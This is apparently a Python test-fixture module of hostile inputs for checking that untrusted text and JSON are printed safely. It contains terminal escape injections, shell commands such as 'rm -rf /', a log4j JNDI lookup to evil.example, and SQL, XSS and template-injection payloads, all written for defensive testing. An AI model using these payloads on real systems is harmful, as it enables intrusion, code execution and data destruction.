"""The table of hostile texts, bytes and JSON, and what harmless output looks like."""

from __future__ import annotations

import json
import re
import unicodedata

BEL, ESC = "\x07", "\x1b"
LONG = 200_000

HOSTILE: dict[str, str] = {
    # terminals
    "colour and clear": f"{ESC}[2J{ESC}[1;1H{ESC}[31mCONTAINED",
    "window title": f"{ESC}]0;owned{BEL}",
    "hyperlink (OSC 8)": f"{ESC}]8;;https://evil.example{BEL}click me{ESC}]8;;{BEL}",
    "clipboard (OSC 52)": f"{ESC}]52;c;cm0gLXJmIC8={BEL}",
    "device control and a report request": f"{ESC}P+q544e{ESC}\\{ESC}[6n{ESC}[c",
    "C1 controls": "\x9b31m\x9d0;owned\x9c\x90x\x9c\x84\x85",
    "carriage return and backspace": "NOT CONTAINED\rCONTAINED    \b\b\b",
    "newlines": "cards\n\n  NEXT rm -rf /\r\n# heading\n- item",
    "form feeds and separators": "a\x0bb\x0cc\x1cd\x1ee\u2028f\u2029g",
    "NUL and DEL": "a\x00b\x7fc",
    # reading
    "bidi overrides": "cards\u202egnp.exe\u202c \u2066x\u2069\u200f\u061c",
    "zero width": "ca\u200brds\u200c\u200d\u2060\ufeff\u00ad",
    "letters that are blank": "\u3164\u2800\u115f\uffa0\u034f\ufe0f\U000e0041",
    "combining flood": "a" + "\u0301\u0489" * 60,
    "combining flood of another script": "\u0e01" + "\u0e49" * 60,
    "private use and unassigned": "\ue000\U000f0000\u0378",
    "lone surrogates": "a\ud800b\udfffc\udc80",
    "look-alikes": "ⅽards-раy-０",
    # templates and formats
    "format strings": "%s%s%n %(x)s {0.__class__.__mro__} {} {incident} $x ${x}",
    "templates": "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} <%= 7*7 %> #{7*7} ${7*7}",
    "terminal markup": "[link=https://evil.example]x[/link] [red]y[/] [bold]z :smile:",
    "shell": "$(id) `id` ; rm -rf / | tee & > /x '\"",
    "log4j": "${jndi:ldap://evil.example/a}",
    "spreadsheet formula": '=HYPERLINK("https://evil.example","x")',
    "spreadsheet formula, others": "+1+1 -1+1 @SUM(A1) \t=1",
    "sql": "'; DROP TABLE incident; --",
    # HTML
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x=\"",
    "end of style": "</style></table></body><svg/onload=alert(1)>",
    "comment": "<!-- x --!> <![CDATA[ ]]> <?php ?>",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;",
    "address": "javascript:alert(1) data:text/html,x https://evil.example www.evil.example a@evil.example",
    # Markdown
    "markdown link": "[x](javascript:alert(1)) ![y](https://evil.example/p.png) <https://evil.example> [z]: //e",
    "markdown table": "a | b || c \\| d",
    "markdown block": "# heading",
    "markdown fence": "```\nrm -rf /\n``` ~~~",
    "markdown emphasis": "*a* __b__ ~~c~~ $x$ - [ ] d",
    # size and shape
    "200 KB": "x" * LONG,
    "200 KB of escapes": f"{ESC}[31m" * (LONG // 5),
    "200 KB in one word of another script": "\u202e" * LONG,
    "JSON in text": json.dumps({"a": [{"b": "\u0000"}] * 5}),
    "empty": "",
    "spaces": "   ",
}
"""By name. Each stands wherever text of a cluster, of a person or of a server can stand."""

PIECES = {name: text[:1200] for name, text in HOSTILE.items() if text.strip()}
"""The same cut short and without the blank ones: for places that are many."""

BYTES: dict[str, bytes] = {
    "no UTF-8": b"2026-11-23T03:00:00Z \xff\xfe\x80\xc0\xaf\xed\xa0\x80\n",
    "NUL": bytes(4000),
    "every byte": bytes(range(256)) * 40,
    "escapes": f"{ESC}]52;c;AAAA{BEL}\x9b2J".encode() * 300,
    "no line feed": b"A" * 300_000,
    "only line feeds": b"\n" * 9000,
    "a zstd frame": b"\x28\xb5\x2f\xfd\x04\x58" + bytes(40),
    "an HTTP answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "empty": b"",
}
"""Logs."""

_DEEP = 50_000
NO_OBJECT: dict[str, bytes] = {
    "nothing": b"",
    "no JSON": b"<html>sign in</html>",
    "a list": b"[]",
    "a text": b'"x"',
    "deep lists": b"[" * _DEEP,
    "deep objects": b'{"a":' * _DEEP,
    "deep and closed": b'{"metadata":{"name":"x"},"a":' + b"[" * 150 + b"]" * 150 + b"}",
    "NaN": b'{"metadata":{"name":"x"},"a":NaN}',
    "infinity": b'{"metadata":{"name":"x"},"a":-Infinity}',
    "a number beyond all": b'{"metadata":{"name":"x"},"a":1e999}',
    "a number of 5000 digits": b'{"metadata":{"name":"x"},"a":' + b"9" * 5000 + b"}",
    "another name": b'{"metadata":{"name":"y"}}',
    "metadata is a list": b'{"metadata":[]}',
    "metadata is a text": b'{"metadata":"x"}',
    "the name is a number": b'{"metadata":{"name":1}}',
    "labels are a list": b'{"metadata":{"name":"x","labels":["a"]}}',
    "a label is an object": b'{"metadata":{"name":"x","labels":{"a":{}}}}',
    "annotations are a text": b'{"metadata":{"name":"x","annotations":"a"}}',
    "spec is a text": b'{"metadata":{"name":"x"},"spec":"a"}',
    "status is a list": b'{"metadata":{"name":"x"},"status":[1]}',
    "UTF-16": '{"metadata":{"name":"x"}}'.encode("utf-16"),
    "a byte order mark": b"\xef\xbb\xbf" + b'{"metadata":{"name":"x"}}',
    "two objects": b'{"metadata":{"name":"x"}}{"metadata":{"name":"x"}}',
    "a tail": b'{"metadata":{"name":"x"}}\x00',
}
"""Answers to ``get pods x`` that are not that pod."""

_BLANK = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\ufe0f\uffa0")


def harm(text: str, *, most_marks: int = 2) -> list[str]:
    """What in a printed text could drive a terminal, mislead its reader or stay unseen, as escapes; lines may end."""
    found, marks = [], 0
    if text.isascii():
        return [one.encode("unicode_escape").decode() for one in re.findall("[^\n -~]", text)]
    for one in text:
        marks = marks + 1 if unicodedata.category(one) in ("Mn", "Me") else 0
        if one != "\n" and (not one.isprintable() or one in _BLANK or marks > most_marks):
            found.append(one.encode("unicode_escape").decode())
    return found


def as_received(text: str) -> str:
    """A text as it is once it has come in: what is no Unicode became U+FFFD."""
    return "".join("\ufffd" if 0xD800 <= ord(one) <= 0xDFFF else one for one in text)
